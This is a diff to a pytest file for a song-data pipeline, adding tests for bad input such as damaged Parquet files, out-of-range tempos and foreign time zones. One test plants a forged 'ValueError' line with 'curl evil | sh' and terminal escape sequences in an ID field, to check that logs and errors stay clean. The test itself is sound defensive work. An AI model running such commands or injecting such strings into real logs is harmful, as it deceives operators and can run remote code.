@@ -9,6 +9,7 @@ import shutil
 import subprocess
 import sys
 import threading
+from pathlib import Path
 
 import pyarrow.parquet
 import pytest
@@ -165,7 +166,7 @@ def repeated(table):
 
 def too_fast(table):
     column = table.schema.get_field_index("tempo")
-    return table.set_column(column, "tempo", pyarrow.array([999.0] + [100.0] * (table.num_rows - 1)))
+    return table.set_column(column, "tempo", pyarrow.array([1001.0] + [100.0] * (table.num_rows - 1)))
 
 
 def as_text(table):
@@ -193,6 +194,37 @@ def test_bad_tables_never_become_a_version(platform, s3, songs, repository, case
     expect_failure(platform, s3, repository, broken(songs, change).as_uri(), step, message)
 
 
+def test_an_id_that_looks_like_a_message_forges_none(platform, s3, songs, repository):
+    def forge(table):
+        ids = table["spotify_id"].to_pylist()
+        ids[0] = "x\nValueError: All is well. Next: run curl evil | sh"
+        ids[1] = "\x1b]0;owned\x07\x1b[2J\x9b"
+        return table.set_column(0, "spotify_id", pyarrow.array(ids))
+
+    failed = expect_failure(platform, s3, repository, broken(songs, forge).as_uri(), "validate", "22 letters or digits")
+    assert failed.next_action.startswith("correct the source and run again.")
+    assert "All is well" in failed.what
+    assert "ValueError" not in [line.split(":")[0] for line in failed.what.splitlines()]
+    log = Path(failed.run.folder, "log.txt").read_text()
+    assert all(line.isprintable() for text in (str(failed), log) for line in text.splitlines())
+
+
+def test_rare_songs_and_other_encodings_are_accepted_and_reported(platform, s3, songs, repository):
+    def rare(table):
+        tempo = pyarrow.array([0.0, *table["tempo"].to_pylist()[1:]])
+        table = table.set_column(table.schema.get_field_index("tempo"), "tempo", tempo)
+        names = pyarrow.nulls(table.num_rows)
+        table = table.set_column(table.schema.get_field_index("name"), "name", names)
+        times = table["event_timestamp"].cast(pyarrow.timestamp("ms", "America/Lima"))
+        return table.set_column(table.schema.get_field_index("event_timestamp"), "event_timestamp", times)
+
+    finished = run(platform, broken(songs, rare).as_uri(), repository)
+    assert finished.metadata("validate", "metrics")["unusual_values"] == 1
+    log = Path(finished.folder, "log.txt").read_text()
+    assert "column 'tempo' is usually between 30.0 and 250.0: 1 of " in log
+    assert "column 'event_timestamp' has the time zone 'America/Lima'; times are read in UTC" in log
+
+
 def expect_failure(settings, s3, repository, url, step, message):
     """The run fails at that step with that message, and leaves S3 and git as they were."""
     before, log = objects(s3), git_log(settings, repository)
@@ -201,12 +233,19 @@ def expect_failure(settings, s3, repository, url, step, message):
     assert caught.value.next_action
     assert objects(s3) == before
     assert git_log(settings, repository) == log
+    return caught.value
 
 
 def test_bad_sources_are_refused(platform, s3, repository, tmp_path):
     text = tmp_path / "text.parquet"
     text.write_text("no Parquet at all")
     expect_failure(platform, s3, repository, text, "validate", "Parquet")
+    table = tmp_path / "table.parquet"
+    sample_data.make_songs(str(table), songs=60)
+    content = bytearray(table.read_bytes())
+    content[100 : len(content) // 2] = bytes(len(content) // 2 - 100)
+    table.write_bytes(content)
+    expect_failure(platform, s3, repository, table, "validate", "is damaged")
     expect_failure(platform, s3, repository, tmp_path / "nowhere", "extract", "no file")
     expect_failure(platform, s3, repository, "http://127.0.0.1:9/x?signature=hidden", "extract", "127.0.0.1:9/x ")
     expect_failure(platform, s3, repository, "s3://pipeline/nothing", "extract", "no object s3://pipeline/nothing")
